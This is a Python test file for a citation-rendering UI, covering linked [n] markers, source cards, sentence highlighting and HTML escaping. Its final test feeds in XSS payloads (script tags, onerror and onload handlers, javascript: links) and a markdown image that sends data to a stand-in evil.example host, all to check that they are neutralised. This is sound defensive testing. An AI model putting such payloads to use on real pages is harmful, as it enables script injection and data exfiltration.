"""ui/citations.py: [n] markers, linked replies, source cards with the cited sentence highlighted, escaping."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from ui.citations import cited_numbers, highlight_spans, render_reply, render_sources


def source(n, text, **kw):
    return {"n": n, "title": kw.get("title", f"Doc {n}"), "source": kw.get("source", f"doc{n}.pdf"),
            "page": kw.get("page", n), "text": text, "start": 0, "end": len(text), "score": kw.get("score", 0.03),
            "doc_id": f"d{n:015x}", "collection": kw.get("collection", "notes")}


SOURCES = [
    source(1, "Cats sleep sixteen hours a day. They purr when they are content."),
    source(2, "Glaciers move slowly. Glaciers carve deep U-shaped valleys over thousands of years. Ice is cold."),
    source(3, "The Roman empire fell in 476."),
]


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs


def parse(fragment):
    p = Tags()
    p.feed(fragment)
    return p


def test_cited_numbers_in_order_of_first_mention():
    assert cited_numbers("Valleys [2]. Cats [1, 3]. Again [2][1].") == [2, 1, 3]
    assert cited_numbers("See [1-3] and [5–6]") == [1, 2, 3, 5, 6]
    assert cited_numbers("No citations here, only [a] and [](x).") == []
    # A markdown link, a reference definition and code are not citations.
    assert cited_numbers("[4](http://x) and\n[5]: http://y\n`[6]` ```\n[7]\n``` [8]") == [8]
    assert cited_numbers("[1-400]") == [1, 400]  # a huge "range" is not expanded


def test_reply_markers_link_to_their_cards():
    reply = "Glaciers carve valleys [2]. Cats nap [1]. Unknown [9]. Code `[1]`."
    rendered = render_reply(reply, SOURCES)
    links = re.findall(r'<a class="parley-cite" href="#([^"]+)" title="([^"]*)">\[(\d)\]</a>', rendered)
    assert [n for _id, _t, n in links] == ["2", "1"]
    assert links[0][1] == "Doc 2, p. 2"
    assert "Unknown [9]" in rendered and "`[1]`" in rendered
    cards = render_sources(reply, SOURCES)
    ids = re.findall(r'id="([^"]+)"', cards)
    assert {i for i, _t, _n in links} <= set(ids)
    # Another turn's sources get other anchors, so two turns on one page do not collide.
    other = render_sources(reply, [source(1, "x"), source(2, "y")])
    assert not set(re.findall(r'id="([^"]+)"', other)) & set(ids)
    assert render_reply("no sources [1]", []) == "no sources [1]"
    assert render_reply("[1, 2] both", SOURCES).count("parley-cite") == 2


def test_cited_sources_first_with_the_citing_sentence_highlighted():
    reply = "Glaciers carve U-shaped valleys over thousands of years [2]. Cats purr when content [1]."
    cards = render_sources(reply, SOURCES)
    order = re.findall(r'<strong>\[(\d)\]', cards)
    assert order == ["2", "1", "3"]
    assert cards.index("Cited in the reply (2)") < cards.index("Also given to the model, not cited (1)") \
        < cards.index("[3] Doc 3")
    marks = re.findall(r"<mark>(.*?)</mark>", cards)
    assert marks == ["Glaciers carve deep U&#45;shaped valleys over thousands of years.",
                     "They purr when they are content."]
    assert "p. 2" in cards and "score 0.0300" in cards and "doc2.pdf" in cards and "in notes" in cards


def test_a_reply_that_cites_nothing_still_shows_every_passage():
    cards = render_sources("Here is an answer without any markers.", SOURCES)
    assert "The reply cites no source. The model was given these passages (3)" in cards
    assert re.findall(r'<strong>\[(\d)\]', cards) == ["1", "2", "3"]
    assert "<mark>" not in cards
    assert render_sources("anything", []) == ""


def test_highlight_picks_the_sentence_sharing_most_words():
    text = "Alpha beta gamma. Delta epsilon zeta eta. Theta iota."
    spans = highlight_spans(text, "what about epsilon and zeta?")
    assert [text[a:b] for a, b in spans] == ["Delta epsilon zeta eta."]
    assert highlight_spans(text, "nothing in common") == []
    assert highlight_spans(text, "") == []


def test_untrusted_passages_cannot_inject_html_links_images_or_markdown():
    evil = source(1, '<script>alert(1)</script><img src=x onerror="alert(2)"> ![leak](https://evil.example/x.png?d=s) '
                     '[click](javascript:alert(3)) <a href="https://evil.example">x</a> **bold** $x$ '
                     "\n\n<div>new block</div>\n\n# heading",
                  title='<b onmouseover="alert(4)">T</b>', source='"><svg onload=alert(5)>',
                  collection="<i>c</i>", page="<u>2</u>")
    for reply in ("about it [1]", "no marker"):
        cards = render_sources(reply, [evil])
        tags = parse(cards)
        assert set(tags.tags) <= {"div", "p", "strong", "br", "code", "blockquote", "mark", "em"}
        assert {name for name, _v in tags.attrs} <= {"class", "id"}
        assert "\n\n" not in cards  # one HTML block: markdown never resumes inside it
        assert "href=" not in cards and "https:" not in cards and "javascript:" not in cards
        assert "x.png" not in cards and "&#91;image&#58; leak&#93;" in cards  # the outside image is only named
        assert "](" not in cards and "**" not in cards and "$" not in cards
    rendered = render_reply("about it [1]", [evil])
    tags = parse(rendered)
    assert tags.tags == ["a"] and {n for n, _v in tags.attrs} == {"class", "href", "title"}
    assert all(v.startswith("#parley-src-") for n, v in tags.attrs if n == "href")
    assert 'onmouseover="' not in rendered
